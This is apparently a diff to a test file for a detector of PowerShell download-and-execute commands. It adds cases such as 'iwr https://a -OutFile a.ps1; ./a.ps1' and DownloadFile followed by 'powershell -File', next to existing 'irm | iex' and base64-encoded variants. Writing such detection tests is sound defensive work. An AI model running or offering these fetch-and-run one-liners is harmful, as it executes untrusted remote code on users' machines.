@@ -71,6 +71,9 @@ describe("Scripts of PowerShell", () => {
         ["$s = (New-Object Net.WebClient).DownloadString('https://a'); $s | iex", "$s | iex"],
         ['powershell -NoProfile -Command "irm https://a | iex"', "irm https://a | iex"],
         ["pwsh -c 'irm https://a | iex'", "irm https://a | iex"],
+        ["iwr https://a -OutFile a.ps1; ./a.ps1", "./a.ps1"],
+        ["iwr https://a -OutFile C:\\a.ps1\n& C:\\a.ps1", "& C:\\a.ps1"],
+        ["(New-Object Net.WebClient).DownloadFile('https://a', 'a.ps1'); powershell -File a.ps1", "-File a.ps1"],
         [`powershell -enc ${Buffer.from("irm https://a | iex", "utf16le").toString("base64")}`, "irm https://a | iex"],
     ] as const) {
         it(`are found in ${JSON.stringify(text)}`, () => {
@@ -92,6 +95,8 @@ describe("Scripts of PowerShell", () => {
         "$v = (irm https://a).tag_name; Write-Host $v",
         "irm https://a | ConvertFrom-Json",
         "iex 'Get-Process'",
+        "iwr https://a -OutFile a.ps1; Get-Content a.ps1",
+        "iwr https://a -OutFile a.msi; Start-Process msiexec -ArgumentList '/i a.msi'",
     ]) {
         it(`are none in ${JSON.stringify(text)}`, () => {
             expect(says(script(text))).to.deep.equal([]);
